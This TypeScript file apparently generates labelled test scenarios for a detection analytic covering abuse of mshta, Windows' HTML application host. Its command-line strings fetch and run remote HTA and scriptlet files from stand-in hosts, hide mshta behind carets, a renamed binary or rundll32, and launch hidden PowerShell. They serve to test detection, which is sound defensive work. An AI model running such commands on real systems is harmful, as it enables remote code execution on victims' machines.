import type { Scenario, StartOptions, StoryProcess } from '../../events/story';
import { called, type LabelledScenario, started, written } from './labelledScenario';
import {
  CMD,
  CONTROL,
  callsControl,
  EDGE,
  homeOf,
  MSHTA,
  POWERSHELL,
  RUNDLL32,
  SVCHOST,
  SYSTEM,
  SYSTEM32,
  saves,
} from './programs';

type Start = StartOptions & { readonly image?: string; readonly commandLine: string };

/** AN1397: mshta ran script content and acted (ANALYTICS B.7, F). */
export const MSHTA_CHAINS: readonly LabelledScenario[] = [
  story('mshta-remote-url', 'a pasted command runs a remote HTA', (s) => ({
    parent: s.starts(CMD),
    commandLine: 'mshta  https://helpdesk-check.example/v/check.hta',
  })),
  story('mshta-webdav', 'an HTA on a WebDAV share', () => ({
    commandLine: `"${MSHTA}" \\\\203.0.113.60@8080\\DavWWWRoot\\form.hta`,
  })),
  story('mshta-unc', 'an HTA on a share of another machine', () => ({
    commandLine: `"${MSHTA}" \\\\203.0.113.61\\pub\\form.hta`,
  })),
  story('mshta-inline-vbs', 'VBScript on the command line', (s) => ({
    parent: s.starts(CMD),
    commandLine: `mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""notepad"":close")`,
  })),
  story('mshta-inline-js', 'JavaScript that fetches a scriptlet', (s) => ({
    parent: s.starts(CMD),
    commandLine: `mshta.exe javascript:a=(GetObject("script:https://static-kx4.example/x.sct")).Exec();close();`,
  })),
  story('mshta-double-click', 'a downloaded HTA, double-clicked', (s) => {
    const edge = s.starts(EDGE);
    const hta = `${homeOf(s)}\\Downloads\\Formular.hta`;
    saves(s, edge, hta, { hostUrl: 'https://files.example/Formular.hta' });
    s.after('15s');
    return {
      commandLine: `"${MSHTA}" "${hta}" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}`,
    };
  }),
  story('mshta-polyglot', 'content disguised as a picture', (s) => ({
    commandLine: `"${MSHTA}" "${homeOf(s)}\\AppData\\Local\\Temp\\banner.png"`,
  })),
  story('mshta-stream', 'content in an alternate data stream', (s) => ({
    commandLine: `"${MSHTA}" "${homeOf(s)}\\Documents\\notes.txt:page.hta"`,
  })),
  story(
    'mshta-renamed',
    'a renamed mshta',
    (s) => ({
      image: `${homeOf(s)}\\AppData\\Roaming\\svch0st.exe`,
      originalFileName: 'MSHTA.EXE',
      commandLine: `"${homeOf(s)}\\AppData\\Roaming\\svch0st.exe" https://static-kx4.example/a.hta`,
    }),
    { named: false },
  ),
  story('mshta-com', 'activated over COM by another machine', (s) => ({
    parent: s.starts(SVCHOST, {
      parent: s.services,
      user: SYSTEM,
      commandLine: `${SYSTEM32}\\svchost.exe -k DcomLaunch -p`,
    }),
    commandLine: `${SYSTEM32}\\mshta.exe -Embedding`,
  })),
  story('mshta-obfuscated', 'a command line with carets and split quotes', (s) => ({
    parent: s.starts(CMD, { commandLine: `"${CMD}" /c m^sh^ta ht^tps://static-kx4.example/a.h^ta` }),
    commandLine: 'msh""ta  ht""tps://static-kx4.example/a.hta',
  })),
  story('mshta-rundll32', 'rundll32 calls the HTML application engine', (s) => ({
    parent: s.starts(CMD),
    image: RUNDLL32,
    commandLine: `rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();h=new%20ActiveXObject("WScript.Shell")`,
  })),
  {
    id: 'mshta-remote-alone',
    title: 'a remote HTA and nothing after it',
    tell(s) {
      const engine = s.starts(MSHTA, { commandLine: `"${MSHTA}" https://survey-77.example/form.hta` });
      s.after('190ms');
      s.ends(engine);
      return [
        {
          analytic: 'AN1397',
          trigger: engine,
          happened: { execution: started(engine) },
          absent: ['file_write', 'network', 'child_process'],
          most: 'partial',
        },
      ];
    },
  },
];

/** mshta, started as told, writes a script, runs it in PowerShell and calls out. */
function story(
  id: string,
  title: string,
  start: (s: Scenario) => Partial<Start> & { readonly commandLine: string; readonly parent?: StoryProcess },
  { named = true }: { readonly named?: boolean } = {},
): LabelledScenario {
  return {
    id,
    title,
    tell(s) {
      const { image = MSHTA, ...how } = start(s);
      s.after('300ms');
      const engine = s.starts(image, how);
      s.after('90ms');
      s.loads(engine, `${SYSTEM32}\\wshom.ocx`);
      callsControl(s, engine);
      const script = `${homeOf(s)}\\AppData\\Roaming\\upd.ps1`;
      s.writes(engine, script);
      s.after('400ms');
      const child = s.starts(POWERSHELL, {
        parent: engine,
        commandLine: `"${POWERSHELL}" -nop -w hidden -f "${script}"`,
      });
      s.after('200ms');
      s.ends(engine);
      return [
        {
          analytic: 'AN1397',
          trigger: engine,
          happened: {
            execution: started(engine),
            file_write: written(script),
            network: called(CONTROL.address),
            child_process: started(child),
          },
          ...(named ? {} : { renamed: true }),
        },
      ];
    },
  };
}
